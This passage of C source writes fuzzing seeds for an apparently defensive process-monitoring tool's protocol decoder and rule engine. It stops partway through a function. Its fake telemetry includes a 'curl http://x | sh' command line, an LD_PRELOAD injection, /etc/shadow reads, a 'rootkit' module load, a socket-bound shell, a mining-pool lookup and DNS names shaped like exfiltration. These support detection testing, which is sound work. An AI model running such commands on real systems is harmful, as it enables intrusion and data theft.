/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Writes the seed corpora of the fuzz targets and the expression target's
 * dictionary:
 *
 *   fuzz-gen-seeds DATADIR FUZZDIR SOURCEROOT
 *
 * DATADIR/fuzz-wire/seed-*    one payload of every message type, packed with
 *                             the codec both programs use, events of every kind
 * DATADIR/fuzz-frame/seed-*   those payloads framed, behind the target's
 *                             control bytes (limit, chunk sizes)
 * DATADIR/fuzz-session/seed-* conversations: HELLO first, then the others,
 *                             behind the target's flags byte
 * DATADIR/fuzz-expr/seed-*    every expression of contrib/policy, and the
 *                             tricky ones listed below
 * DATADIR/fuzz-policy/seed-*  every contrib/policy file, and the YAML examples
 *                             of docs/rules.md
 * FUZZDIR/expr.dict           field names, event types, operators, constants
 *
 * The directories must exist. Grown inputs (named by libFuzzer after their
 * SHA-1) are left alone; seeds are overwritten.
 */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "frame.h"
#include "rules.h"
#include "sentrace/wire.h"

static const char *data_dir, *fuzz_dir, *src_root;
static int failures;

static void write_file(const char *dir, const char *name, const void *buf, size_t len)
{
	char path[4096 + 256 + 2];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	f = fopen(path, "wb");
	if (!f || fwrite(buf, 1, len, f) != len || fclose(f) != 0) {
		fprintf(stderr, "%s: %s\n", path, strerror(errno));
		failures++;
	}
}

static void write_seed(const char *target, const char *name, const void *buf, size_t len)
{
	char dir[4096], file[256];

	snprintf(dir, sizeof(dir), "%s/fuzz-%s", data_dir, target);
	snprintf(file, sizeof(file), "seed-%s", name);
	write_file(dir, file, buf, len);
}

/* ---- Messages ---- */

/* The payloads, kept for the frame seeds. */
static struct {
	char name[48];
	msgpack_sbuffer sb;
} msgs[32];
static size_t nmsgs;

static msgpack_packer *msg_begin(const char *name, msgpack_packer *pk)
{
	msgpack_sbuffer *sb = &msgs[nmsgs].sb;

	if (nmsgs == sizeof(msgs) / sizeof(msgs[0])) {
		fprintf(stderr, "too many messages\n");
		abort();
	}
	snprintf(msgs[nmsgs].name, sizeof(msgs[nmsgs].name), "%s", name);
	msgpack_sbuffer_init(sb);
	msgpack_packer_init(pk, sb, msgpack_sbuffer_write);
	return pk;
}

static void msg_end(void)
{
	write_seed("wire", msgs[nmsgs].name, msgs[nmsgs].sb.data, msgs[nmsgs].sb.size);
	nmsgs++;
}

static void pack_strs(msgpack_packer *pk, const char *key, const char *const *v, size_t n)
{
	wire_pack_str(pk, key);
	msgpack_pack_array(pk, n);
	for (size_t i = 0; i < n; i++)
		wire_pack_str(pk, v[i]);
}

/* The common keys of an event (docs/protocol.md), nkeys more to follow. */
static void event_head(msgpack_packer *pk, const char *ev, const char *syscall,
		       int64_t ret, size_t nkeys)
{
	msgpack_pack_map(pk, 6 + nkeys);
	wire_pack_kv_str(pk, "ev", ev);
	wire_pack_kv_str(pk, "syscall", syscall);
	wire_pack_kv_u64(pk, "ts", 1700000000123456789ull);
	wire_pack_kv_i64(pk, "pid", 4242);
	wire_pack_kv_i64(pk, "tid", 4243);
	wire_pack_kv_i64(pk, "ret", ret);
}

static void pack_events(msgpack_packer *pk, uint64_t seq, int which)
{
	static const char *const argv[] = { "bash", "-c", "curl http://x | sh" };
	static const char *const envp[] = { "PATH=/usr/bin", "LD_PRELOAD=/tmp/x.so" };

	msgpack_pack_map(pk, 3);
	wire_pack_kv_u64(pk, "type", WIRE_EVENTS);
	wire_pack_kv_u64(pk, "seq", seq);
	wire_pack_str(pk, "events");
	switch (which) {
	case 0: /* a process's life */
		msgpack_pack_array(pk, 4);
		event_head(pk, "fork", "clone", 4300, 3);
		wire_pack_kv_i64(pk, "child", 4300);
		wire_pack_kv_i64(pk, "ppid", 1);
		wire_pack_kv_bool(pk, "thread", false);
		event_head(pk, "exec", "execve", 0, 11);
		wire_pack_kv_str(pk, "file", "/usr/bin/bash");
		pack_strs(pk, "argv", argv, 3);
		wire_pack_kv_bool(pk, "argv_truncated", false);
		pack_strs(pk, "envp", envp, 2);
		wire_pack_kv_i64(pk, "uid", 1000);
		wire_pack_kv_i64(pk, "euid", 0);
		wire_pack_kv_i64(pk, "gid", 1000);
		wire_pack_kv_i64(pk, "egid", 0);
		wire_pack_kv_str(pk, "cwd", "/tmp");
		wire_pack_kv_i64(pk, "ppid", 1);
		wire_pack_kv_str(pk, "tty", "pts/0");
		event_head(pk, "open", "openat", -13, 3);
		wire_pack_kv_str(pk, "path", "/etc/shadow");
		wire_pack_kv_i64(pk, "flags", 0x241);
		wire_pack_kv_i64(pk, "mode", 0644);
		event_head(pk, "exit", "exit_group", 0, 1);
		wire_pack_kv_i64(pk, "code", 0);
		break;
	case 1: /* files */
		msgpack_pack_array(pk, 9);
		event_head(pk, "unlink", "unlinkat", 0, 2);
		wire_pack_kv_str(pk, "path", "/var/log/auth.log");
		wire_pack_kv_i64(pk, "flags", 0);
		event_head(pk, "rename", "renameat2", 0, 3);
		wire_pack_kv_str(pk, "path", "/tmp/a");
		wire_pack_kv_str(pk, "dest", "/usr/bin/a");
		wire_pack_kv_i64(pk, "flags", 0);
		event_head(pk, "symlink", "symlinkat", 0, 2);
		wire_pack_kv_str(pk, "target", "/etc/passwd");
		wire_pack_kv_str(pk, "path", "/tmp/p");
		event_head(pk, "chmod", "fchmodat", 0, 2);
		wire_pack_kv_str(pk, "path", "/tmp/x");
		wire_pack_kv_i64(pk, "mode", 04755);
		event_head(pk, "chown", "fchown", 0, 3);
		wire_pack_kv_i64(pk, "fd", 3);
		wire_pack_kv_i64(pk, "uid", 0);
		wire_pack_kv_i64(pk, "gid", -1);
		event_head(pk, "mkdir", "mkdir", -17, 2);
		wire_pack_kv_str(pk, "path", "/root/.ssh");
		wire_pack_kv_i64(pk, "mode", 0700);
		event_head(pk, "truncate", "truncate", 0, 2);
		wire_pack_kv_str(pk, "path", "/var/log/wtmp");
		wire_pack_kv_i64(pk, "length", 0);
		event_head(pk, "mount", "mount", 0, 4);
		wire_pack_kv_str(pk, "source", "/dev/sda1");
		wire_pack_kv_str(pk, "target", "/mnt");
		wire_pack_kv_str(pk, "fstype", "ext4");
		wire_pack_kv_i64(pk, "flags", 0);
		event_head(pk, "chdir", "chdir", 0, 1);
		wire_pack_kv_str(pk, "path", "/proc/1/root");
		break;
	case 2: /* privileges, modules, sockets */
		msgpack_pack_array(pk, 9);
		event_head(pk, "setuid", "setresuid", 0, 3);
		wire_pack_kv_i64(pk, "uid", 0);
		wire_pack_kv_i64(pk, "euid", 0);
		wire_pack_kv_i64(pk, "suid", -1);
		event_head(pk, "capset", "capset", 0, 3);
		wire_pack_kv_u64(pk, "effective", 1ull << 21);
		wire_pack_kv_u64(pk, "permitted", ~0ull >> 23);
		wire_pack_kv_u64(pk, "inheritable", 0);
		event_head(pk, "load_module", "init_module", 0, 3);
		wire_pack_kv_str(pk, "name", "rootkit");
		wire_pack_kv_str(pk, "args", "");
		wire_pack_kv_bool(pk, "from_memory", true);
		event_head(pk, "ptrace", "ptrace", 0, 2);
		wire_pack_kv_i64(pk, "request", 16);
		wire_pack_kv_i64(pk, "target", 1);
		event_head(pk, "memfd_create", "memfd_create", 5, 2);
		wire_pack_kv_str(pk, "name", "");
		wire_pack_kv_i64(pk, "flags", 1);
		event_head(pk, "socket", "socket", 3, 3);
		wire_pack_kv_i64(pk, "family", 2);
		wire_pack_kv_i64(pk, "type", 1);
		wire_pack_kv_i64(pk, "protocol", 0);
		event_head(pk, "connect", "connect", -115, 4);
		wire_pack_kv_i64(pk, "fd", 3);
		wire_pack_kv_i64(pk, "family", 10);
		wire_pack_kv_str(pk, "addr", "::ffff:10.1.2.3");
		wire_pack_kv_i64(pk, "port", 4444);
		event_head(pk, "bind", "bind", 0, 3);
		wire_pack_kv_i64(pk, "fd", 4);
		wire_pack_kv_i64(pk, "family", 1);
		wire_pack_kv_str(pk, "path", "@abstract");
		event_head(pk, "accept", "accept4", 6, 4);
		wire_pack_kv_i64(pk, "fd", 3);
		wire_pack_kv_i64(pk, "family", 2);
		wire_pack_kv_str(pk, "addr", "192.168.1.1");
		wire_pack_kv_i64(pk, "port", 51000);
		break;
	case 4: /* invalid values for the decoder: types, repeats, sizes */
		msgpack_pack_array(pk, 3);
		event_head(pk, "open", "openat", 3, 3);
		wire_pack_kv_u64(pk, "path", 7);
		wire_pack_kv_str(pk, "flags", "O_RDONLY");
		wire_pack_kv_str(pk, "path", "/etc/shadow");
		msgpack_pack_map(pk, 4);
		wire_pack_kv_str(pk, "ev", "exec");
		wire_pack_kv_str(pk, "ev", "open");
		wire_pack_kv_u64(pk, "pid", UINT64_MAX);
		wire_pack_str(pk, "argv");
		msgpack_pack_array(pk, 4097);
		/* Empty strings: one byte each, so the framed seed fits too. */
		for (int i = 0; i < 4097; i++)
			wire_pack_str(pk, "");
		event_head(pk, "exec", "execve", 0, 2);
		wire_pack_str(pk, "envp");
		msgpack_pack_array(pk, 2);
		wire_pack_str(pk, "A=1");
		msgpack_pack_int(pk, 2);
		wire_pack_kv_bool(pk, "file", true);
		break;
	default: /* odd but valid: not a map, a procfs exec, an unknown kind */
		msgpack_pack_array(pk, 4);
		msgpack_pack_nil(pk);
		msgpack_pack_map(pk, 6);
		wire_pack_kv_str(pk, "ev", "exec");
		wire_pack_kv_u64(pk, "ts", 1);
		wire_pack_kv_i64(pk, "pid", 77);
		wire_pack_kv_i64(pk, "tid", 77);
		wire_pack_kv_i64(pk, "ret", 0);
		wire_pack_kv_bool(pk, "from_procfs", true);
		event_head(pk, "teleport", "teleport", 0, 1);
		msgpack_pack_double(pk, 1.5);
		msgpack_pack_bin(pk, 2);
		msgpack_pack_bin_body(pk, "\0\1", 2);
		msgpack_pack_map(pk, 0);
		break;
	}
}

static void gen_messages(void)
{
	static const char *const argv[] = { "/usr/sbin/nginx", "-g", "daemon off;" };
	struct wire_hello hello = {
		.version = WIRE_PROTOCOL_VERSION,
		.tracer_version = wire_str_c("0.1.0"),
		.mode = wire_str_c("wrapped"),
		.hostname = wire_str_c("web-1"),
		.container_id = wire_str_c("0123456789abcdef0123456789abcdef"),
		.pidns = 4026531836ull,
		.tracer_pid = 1,
		.argc = 3,
	};
	struct wire_hello_ack hello_ack = {
		.version = WIRE_PROTOCOL_VERSION, .probe_version = wire_str_c("0.1.0"),
		.session = 7, .error = wire_str_c(""),
	};
	struct wire_command command = {
		.id = 1, .action = wire_str_c("kill"), .pid = 4300, .signal = 9,
		.rule_id = wire_str_c("web_server_spawned_shell"),
	};
	struct wire_command_result result = {
		.id = 1, .pid = 4300, .signal = 9, .done = false,
		.error = wire_str_c("ESRCH"),
	};
	struct wire_ack ack = { .seq = 12 };
	struct wire_goodbye goodbye = { .reason = wire_str_c("exit"), .exit_status = 3 };
	static const char *const counters[] = { "events", "stops", "frames" };
	msgpack_packer pk;

	for (int i = 0; i < 3; i++)
		hello.argv[i] = wire_str_c(argv[i]);
	wire_pack_hello(msg_begin("hello", &pk), &hello);
	msg_end();
	{
		/* The token handshake: the probe's nonce is random, so no seed
		 * can carry a right proof; these reach the refusal. */
		static const uint8_t nonce[WIRE_SECRET_LEN] = { 0x5e, 0x17 };
		struct wire_hello h = hello;
		struct wire_challenge ch = {
			.nonce = { (const char *)nonce, sizeof(nonce) },
			.proof = { (const char *)nonce, sizeof(nonce) },
		};
		struct wire_auth auth = { .proof = ch.proof };

		h.nonce = ch.nonce;
		h.resume_session = 3;
		h.resume_secret = ch.nonce;
		wire_pack_hello(msg_begin("hello-token", &pk), &h);
		msg_end();
		wire_pack_challenge(msg_begin("challenge", &pk), &ch);
		msg_end();
		wire_pack_auth(msg_begin("auth", &pk), &auth);
		msg_end();
	}
	wire_pack_hello_ack(msg_begin("hello_ack", &pk), &hello_ack);
	msg_end();
	hello_ack.error = wire_str_c("unsupported protocol version 2");
	wire_pack_hello_ack(msg_begin("hello_ack-error", &pk), &hello_ack);
	msg_end();
	wire_pack_command(msg_begin("command", &pk), &command);
	msg_end();
	wire_pack_command_result(msg_begin("command_result", &pk), &result);
	msg_end();
	wire_pack_ack(msg_begin("ack", &pk), &ack);
	msg_end();
	wire_pack_goodbye(msg_begin("goodbye", &pk), &goodbye);
	msg_end();

	pack_events(msg_begin("events-life", &pk), 1, 0);
	msg_end();
	pack_events(msg_begin("events-files", &pk), 5, 1);
	msg_end();
	pack_events(msg_begin("events-privileges", &pk), 14, 2);
	msg_end();
	pack_events(msg_begin("events-odd", &pk), 23, 3);
	msg_end();
	pack_events(msg_begin("events-invalid", &pk), 30, 4);
	msg_end();

	msg_begin("process", &pk);
	msgpack_pack_map(&pk, 2);
	wire_pack_kv_u64(&pk, "type", WIRE_PROCESS);
	wire_pack_str(&pk, "processes");
	msgpack_pack_array(&pk, 2);
	msgpack_pack_map(&pk, 5);
	wire_pack_kv_i64(&pk, "pid", 4300);
	wire_pack_kv_i64(&pk, "ppid", 1);
	wire_pack_kv_str(&pk, "file", "/usr/bin/bash");
	pack_strs(&pk, "argv", argv, 3);
	wire_pack_kv_u64(&pk, "start", 1700000000000000000ull);
	msgpack_pack_map(&pk, 1);
	wire_pack_kv_i64(&pk, "pid", 1);
	msg_end();

	msg_begin("stats", &pk);
	msgpack_pack_map(&pk, 3);
	wire_pack_kv_u64(&pk, "type", WIRE_STATS);
	wire_pack_str(&pk, "counters");
	msgpack_pack_map(&pk, 3);
	for (int i = 0; i < 3; i++)
		wire_pack_kv_u64(&pk, counters[i], 1000u * (unsigned)i);
	wire_pack_str(&pk, "dropped");
	msgpack_pack_map(&pk, 1);
	wire_pack_kv_u64(&pk, "open", 17);
	msg_end();

	/* Drop ranges as a tracer reports them, and some no tracer sends. */
	msg_begin("stats-drops", &pk);
	msgpack_pack_map(&pk, 4);
	wire_pack_kv_u64(&pk, "type", WIRE_STATS);
	wire_pack_str(&pk, "counters");
	msgpack_pack_map(&pk, 0);
	wire_pack_str(&pk, "dropped");
	msgpack_pack_map(&pk, 1);
	wire_pack_kv_u64(&pk, "open", 5);
	wire_pack_str(&pk, "drops");
	msgpack_pack_array(&pk, 4);
	msgpack_pack_map(&pk, 5);
	wire_pack_kv_u64(&pk, "seq_first", 2);
	wire_pack_kv_u64(&pk, "seq_last", 4);
	wire_pack_kv_u64(&pk, "count", 3);
	wire_pack_kv_u64(&pk, "ts_first", 1700000000000000000ull);
	wire_pack_kv_u64(&pk, "ts_last", 1700000000000100000ull);
	msgpack_pack_map(&pk, 3);
	wire_pack_kv_u64(&pk, "seq_first", 9);
	wire_pack_kv_u64(&pk, "seq_last", 3);
	wire_pack_kv_u64(&pk, "count", 2);
	msgpack_pack_map(&pk, 1);
	wire_pack_kv_str(&pk, "count", "many");
	msgpack_pack_nil(&pk);
	msg_end();

	msg_begin("unknown-type", &pk);
	msgpack_pack_map(&pk, 2);
	wire_pack_kv_u64(&pk, "type", 99);
	wire_pack_kv_str(&pk, "x", "y");
	msg_end();
}

/* ---- Frames ---- */

struct frame_seed {
	uint8_t buf[8192];
	size_t len;
};

/* Control bytes: limit 1 + 4 * maxb, then the chunk sizes. */
static void frame_seed_begin(struct frame_seed *s, uint8_t maxb,
			     const uint8_t *splits, uint8_t nsplits)
{
	s->buf[0] = maxb;
	s->buf[1] = nsplits;
	memcpy(s->buf + 2, splits, nsplits);
	s->len = 2 + (size_t)nsplits;
}

static void frame_seed_add(struct frame_seed *s, const void *payload, size_t len)
{
	if (s->len + WIRE_FRAME_HEADER + len > sizeof(s->buf))
		return;
	wire_put_len(s->buf + s->len, (uint32_t)len);
	memcpy(s->buf + s->len + WIRE_FRAME_HEADER, payload, len);
	s->len += WIRE_FRAME_HEADER + len;
}

static void gen_frames(void)
{
	static const uint8_t one[] = { 1 }, mixed[] = { 3, 1, 64, 7, 200 };
	struct frame_seed s;

	/* Each message alone, whole, under the largest limit. */
	for (size_t i = 0; i < nmsgs; i++) {
		frame_seed_begin(&s, 255, NULL, 0);
		frame_seed_add(&s, msgs[i].sb.data, msgs[i].sb.size);
		write_seed("frame", msgs[i].name, s.buf, s.len);
	}

	/* A conversation, byte by byte and in mixed chunks. */
	for (int k = 0; k < 2; k++) {
		frame_seed_begin(&s, 255, k ? mixed : one, k ? sizeof(mixed) : 1);
		for (size_t i = 0; i < nmsgs; i++)
			if (msgs[i].sb.size < 300)
				frame_seed_add(&s, msgs[i].sb.data, msgs[i].sb.size);
		write_seed("frame", k ? "conversation-mixed" : "conversation-bytes",
			   s.buf, s.len);
	}

	/* A frame over the limit after a good one. */
	frame_seed_begin(&s, 4, mixed, 2);
	frame_seed_add(&s, msgs[0].sb.data, 10);
	frame_seed_add(&s, msgs[0].sb.data, msgs[0].sb.size);
	write_seed("frame", "over-limit", s.buf, s.len);

	/* An empty frame. */
	frame_seed_begin(&s, 255, one, 1);
	frame_seed_add(&s, "", 0);
	write_seed("frame", "empty-frame", s.buf, s.len);

	/* A header announcing more than ever comes. */
	frame_seed_begin(&s, 255, mixed, 3);
	frame_seed_add(&s, msgs[0].sb.data, msgs[0].sb.size);
	wire_put_len(s.buf + s.len, 900);
	s.len += WIRE_FRAME_HEADER + 5;
	write_seed("frame", "truncated", s.buf, s.len);
}

/* ---- Conversations ---- */

static size_t msg_index(const char *name)
{
	for (size_t i = 0; i < nmsgs; i++)
		if (strcmp(msgs[i].name, name) == 0)
			return i;
	fprintf(stderr, "no message %s\n", name);
	abort();
}

/* flags, then the frames of the named messages in order. */
static void conversation(const char *name, uint8_t flags, const char *const *names,
			 size_t n)
{
	static uint8_t buf[65536];
	size_t len = 1;

	buf[0] = flags;
	for (size_t i = 0; i < n; i++) {
		const msgpack_sbuffer *sb = &msgs[msg_index(names[i])].sb;

		if (len + WIRE_FRAME_HEADER + sb->size > sizeof(buf))
			break;
		wire_put_len(buf + len, (uint32_t)sb->size);
		memcpy(buf + len + WIRE_FRAME_HEADER, sb->data, sb->size);
		len += WIRE_FRAME_HEADER + sb->size;
	}
	write_seed("session", name, buf, len);
}

/* A web server's shell, which session.policy kills, and its result. */
static void gen_attack(void)
{
	static const char *const argv[] = { "sh", "-c", "id" };
	msgpack_packer pk;

	msg_begin("attack-process", &pk);
	msgpack_pack_map(&pk, 2);
	wire_pack_kv_u64(&pk, "type", WIRE_PROCESS);
	wire_pack_str(&pk, "processes");
	msgpack_pack_array(&pk, 1);
	msgpack_pack_map(&pk, 3);
	wire_pack_kv_i64(&pk, "pid", 100);
	wire_pack_kv_i64(&pk, "ppid", 1);
	wire_pack_kv_str(&pk, "file", "/usr/sbin/nginx");
	msg_end();

	msg_begin("attack-events", &pk);
	msgpack_pack_map(&pk, 3);
	wire_pack_kv_u64(&pk, "type", WIRE_EVENTS);
	wire_pack_kv_u64(&pk, "seq", 1);
	wire_pack_str(&pk, "events");
	msgpack_pack_array(&pk, 3);
	event_head(&pk, "fork", "clone", 200, 2);
	wire_pack_kv_i64(&pk, "child", 200);
	wire_pack_kv_i64(&pk, "ppid", 4242);
	msgpack_pack_map(&pk, 8);
	wire_pack_kv_str(&pk, "ev", "exec");
	wire_pack_kv_str(&pk, "syscall", "execve");
	wire_pack_kv_u64(&pk, "ts", 1700000000200000000ull);
	wire_pack_kv_i64(&pk, "pid", 200);
	wire_pack_kv_i64(&pk, "tid", 200);
	wire_pack_kv_i64(&pk, "ret", 0);
	wire_pack_kv_str(&pk, "file", "/bin/sh");
	pack_strs(&pk, "argv", argv, 3);
	msgpack_pack_map(&pk, 8);
	wire_pack_kv_str(&pk, "ev", "open");
	wire_pack_kv_str(&pk, "syscall", "openat");
	wire_pack_kv_u64(&pk, "ts", 1700000000300000000ull);
	wire_pack_kv_i64(&pk, "pid", 200);
	wire_pack_kv_i64(&pk, "tid", 200);
	wire_pack_kv_i64(&pk, "ret", 3);
	wire_pack_kv_str(&pk, "path", "/etc/ld.so.preload");
	wire_pack_kv_i64(&pk, "flags", 01101);
	msg_end();
}

/* One exec of pid with fds 0-2 (type, inode; a socket has addresses). */
static void pipeline_exec(msgpack_packer *pk, int64_t pid, const char *file,
			  const char *in, uint64_t in_ino, const char *out,
			  uint64_t out_ino)
{
	bool sock = strcmp(in, "socket") == 0;

	msgpack_pack_map(pk, 9 + (in_ino ? 1 : 0) + (out_ino ? 1 : 0) + (sock ? 3 : 0));
	wire_pack_kv_str(pk, "ev", "exec");
	wire_pack_kv_str(pk, "syscall", "execve");
	wire_pack_kv_u64(pk, "ts", 1700000000400000000ull + (uint64_t)pid);
	wire_pack_kv_i64(pk, "pid", pid);
	wire_pack_kv_i64(pk, "tid", pid);
	wire_pack_kv_i64(pk, "ret", 0);
	wire_pack_kv_str(pk, "file", file);
	wire_pack_kv_str(pk, "stdin", in);
	if (in_ino)
		wire_pack_kv_u64(pk, "stdin_ino", in_ino);
	if (sock) {
		wire_pack_kv_str(pk, "stdin_proto", "tcp");
		wire_pack_kv_str(pk, "stdin_local", "127.0.0.1:4444");
		wire_pack_kv_str(pk, "stdin_peer", "127.0.0.1:50000");
	}
	wire_pack_kv_str(pk, "stdout", out);
	if (out_ino)
		wire_pack_kv_u64(pk, "stdout_ino", out_ino);
}

/* curl | base64 -d | sh with the reader's exec first, and a shell on a
 * socket: the probe's pipeline lineage (src/probe/pipes.c). */
static void gen_pipeline(void)
{
	msgpack_packer pk;

	msg_begin("pipeline-events", &pk);
	msgpack_pack_map(&pk, 3);
	wire_pack_kv_u64(&pk, "type", WIRE_EVENTS);
	wire_pack_kv_u64(&pk, "seq", 1);
	wire_pack_str(&pk, "events");
	msgpack_pack_array(&pk, 4);
	pipeline_exec(&pk, 300, "/bin/sh", "pipe", 9, "tty", 0);
	pipeline_exec(&pk, 301, "/usr/bin/base64", "pipe", 8, "pipe", 9);
	pipeline_exec(&pk, 302, "/usr/bin/curl", "null", 0, "pipe", 8);
	pipeline_exec(&pk, 303, "/tmp/updater", "socket", 77, "socket", 77);
	msg_end();
}

/* dns events (no ret): the names the DNS rules and the probe's measures
 * (length, entropy, longest label) read, and odd ones. */
static void dns_event(msgpack_packer *pk, const char *name, int64_t type, bool odd)
{
	msgpack_pack_map(pk, odd ? 8 : 14);
	wire_pack_kv_str(pk, "ev", "dns");
	wire_pack_kv_str(pk, "syscall", "write");
	wire_pack_kv_u64(pk, "ts", 1700000000400000000ull);
	wire_pack_kv_i64(pk, "pid", 200);
	wire_pack_kv_i64(pk, "tid", 200);
	if (odd) {
		/* Wrong kinds: a name that is an int, a type that is a string. */
		wire_pack_kv_i64(pk, "name", 7);
		wire_pack_kv_str(pk, "type", name);
		wire_pack_kv_str(pk, "port", "53");
		return;
	}
	wire_pack_kv_i64(pk, "fd", 3);
	wire_pack_kv_i64(pk, "id", 0x4242);
	wire_pack_kv_str(pk, "name", name);
	wire_pack_kv_i64(pk, "type", type);
	wire_pack_kv_i64(pk, "class", 1);
	wire_pack_kv_i64(pk, "count", 1);
	wire_pack_kv_str(pk, "protocol", "udp");
	wire_pack_kv_str(pk, "addr", "127.0.0.53");
	wire_pack_kv_i64(pk, "port", 53);
}

static void gen_dns(void)
{
	msgpack_packer pk;

	msg_begin("dns-events", &pk);
	msgpack_pack_map(&pk, 3);
	wire_pack_kv_u64(&pk, "type", WIRE_EVENTS);
	wire_pack_kv_u64(&pk, "seq", 10);
	wire_pack_str(&pk, "events");
	msgpack_pack_array(&pk, 6);
	dns_event(&pk, "xmr.pool.minergate.com", 1, false);
	dns_event(&pk, "cmd.example.org", 16, false);
	dns_event(&pk, "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3e.t.example.com", 28, false);
	dns_event(&pk, "a\\046\\000\\255.com", 16, false);
	dns_event(&pk, "", 65535, false);
	dns_event(&pk, "TXT", 0, true);
	msg_end();
}

static void gen_conversations(void)
{
	static const char *const full[] = {
		"hello", "process", "events-life", "events-files",
		"events-privileges", "events-odd", "stats", "command_result",
		"unknown-type", "goodbye",
	};
	static const char *const attack[] = {
		"hello", "attack-process", "attack-events", "command_result",
		"attack-events", "stats", "goodbye",
	};
	static const char *const resent[] = {
		"hello", "events-life", "events-life", "events-files", "ack",
	};
	static const char *const drops[] = {
		"hello", "events-life", "events-privileges", "stats-drops", "events-odd",
	};
	static const char *const pipeline[] = { "hello", "pipeline-events", "goodbye" };
	static const char *const second_hello[] = { "hello", "hello" };
	static const char *const no_hello[] = { "events-life", "goodbye" };
	static const char *const token[] = {
		"hello-token", "auth", "events-life", "goodbye",
	};
	static const char *const dns[] = {
		"hello", "attack-process", "attack-events", "dns-events", "stats", "goodbye",
	};

	gen_attack();
	gen_pipeline();
	conversation("pipeline-json", 0, pipeline, sizeof(pipeline) / sizeof(pipeline[0]));
	gen_dns();
	conversation("dns-json", 0, dns, sizeof(dns) / sizeof(dns[0]));
	conversation("full-json", 0, full, sizeof(full) / sizeof(full[0]));
	conversation("full-text", 1, full, sizeof(full) / sizeof(full[0]));
	conversation("full-no-engine", 2, full, sizeof(full) / sizeof(full[0]));
	conversation("attack-json", 0, attack, sizeof(attack) / sizeof(attack[0]));
	conversation("attack-text", 1, attack, sizeof(attack) / sizeof(attack[0]));
	conversation("resent", 0, resent, sizeof(resent) / sizeof(resent[0]));
	conversation("second-hello", 0, second_hello, 2);
	conversation("drops-json", 0, drops, sizeof(drops) / sizeof(drops[0]));
	conversation("drops-text", 1, drops, sizeof(drops) / sizeof(drops[0]));
	conversation("no-hello", 1, no_hello, 2);
	conversation("token", 4, token, sizeof(token) / sizeof(token[0]));
	conversation("token-no-auth", 4, full, sizeof(full) / sizeof(full[0]));
}

/* ---- Expressions ---- */

static const char *const tricky[] = {
	"exec.file.name == \"bash\"",
	"open.flags & (O_WRONLY|O_RDWR) > 0 && open.file.path =~ \"/etc/**\"",
	"open.flags & O_ACCMODE == O_RDONLY",
	"!(open.retval == 3) || not open.file.name in [\"a\", ~\"b*\", r\"c.*\"]",
	"connect.addr.ip in [\"10.0.0.0/8\", 192.168.0.0/16, \"::1\", \"fe80::/10\"]",
	"connect.addr.ip not in fz_list && connect.addr.port == 4444",
	"exec.file.name in fz_names && process.ancestors.file.name == \"nginx\"",
	"fz_open && open.file.path != \"\"",
	"process.created_at < 5s && exec.file.path == r\"^/tmp/[a-z]+$\"",
	"event.type in [\"open\", \"exec\"] && process.comm == \"curl\"",
	"event.type == \"exec\" && open.flags > 0",
	"process.pid > process.ppid && event.type == \"fork\"",
	"unlink.file.path == process.file.path",
	"0 < open.retval and open.flags ^ 0x1ff | 0755 == -1",
	"chmod.file.destination.mode & S_ISUID != 0",
	"exec.args =~ \"*stratum+tcp*\" || exec.envs in [\"LD_PRELOAD\"]",
	"process.argv != \"-e\" && exec.file.name == \"\\x41\\\\\\*\\n\"",
	"open.file.path == ~\"/a/**/b\" && open.file.path =~ \"[!x]?[a-z]\\\\*\"",
	"((((((((open.flags > 0))))))))",
	"!!!!!!open.flags > 0",
	"open.flags > 9223372036854775807 || open.flags < -9223372036854775808",
	"open.flags == 1h && open.flags > 500ms && open.flags < 2m",
	"exec.file.name == r\"(a|b\" ",
	"exec.file.name == ~\"[\"",
	"open.flags in [1, 2, O_RDWR, SIGKILL, CAP_SYS_ADMIN, AF_INET]",
	"load_module.loaded_from_memory",
	"exec.file.name == 'single' && exec.file.name != \"\\\"\"",
	"open.flags >",
	"&& ||",
	"\"unterminated",
	"fz_open && fz_nosuch",
	"",
};

static void gen_expressions(void)
{
	const char *policy = "contrib/policy";
	char path[4096], name[64];
	struct rule_set *rs;
	struct rules_diag diag;
	const char *paths[1] = { path };

	for (size_t i = 0; i < sizeof(tricky) / sizeof(tricky[0]); i++) {
		snprintf(name, sizeof(name), "tricky-%02zu", i);
		write_seed("expr", name, tricky[i], strlen(tricky[i]));
	}
	snprintf(path, sizeof(path), "%s/%s", src_root, policy);
	rules_diag_init(&diag);
	if (rule_set_load(paths, 1, &diag, &rs) < 0) {
		fprintf(stderr, "%s: cannot load\n", path);
		failures++;
		rules_diag_fini(&diag);
		return;
	}
	for (size_t i = 0; i < rule_set_count(rs); i++) {
		const struct rule *r = rule_set_at(rs, i);
		const char *e = rule_expression(r);

		snprintf(name, sizeof(name), "policy-%.50s", rule_id(r));
		write_seed("expr", name, e, strlen(e));
	}
	rule_set_free(rs);
	rules_diag_fini(&diag);
}

/* ---- Policies ---- */

static int read_all(const char *path, char **ret_buf, size_t *ret_len)
{
	FILE *f = fopen(path, "rb");
	char *buf = NULL;
	size_t len = 0, cap = 0, n;

	if (!f)
		return -errno;
	do {
		if (len == cap) {
			char *nb = realloc(buf, cap = cap ? 2 * cap : 16384);

			if (!nb) {
				free(buf);
				fclose(f);
				return -ENOMEM;
			}
			buf = nb;
		}
		n = fread(buf + len, 1, cap - len, f);
		len += n;
	} while (n > 0);
	fclose(f);
	*ret_buf = buf;
	*ret_len = len;
	return 0;
}

static int cmp_names(const struct dirent **a, const struct dirent **b)
{
	return strcmp((*a)->d_name, (*b)->d_name);
}

static void gen_policies(void)
{
	char path[4096 + 256 + 32], name[128], *buf;
	struct dirent **ents;
	size_t len;
	int n, block = 0;

	snprintf(path, sizeof(path), "%s/contrib/policy", src_root);
	n = scandir(path, &ents, NULL, cmp_names);
	for (int i = 0; i < n; i++) {
		const char *d = ents[i]->d_name;
		size_t dl = strlen(d);

		if (dl > 7 && strcmp(d + dl - 7, ".policy") == 0) {
			snprintf(path, sizeof(path), "%s/contrib/policy/%s", src_root, d);
			if (read_all(path, &buf, &len) == 0) {
				snprintf(name, sizeof(name), "contrib-%.*s", (int)(dl - 7), d);
				write_seed("policy", name, buf, len);
				free(buf);
			} else {
				failures++;
			}
		}
		free(ents[i]);
	}
	if (n >= 0)
		free(ents);

	/* The ```yaml blocks of docs/rules.md. */
	snprintf(path, sizeof(path), "%s/docs/rules.md", src_root);
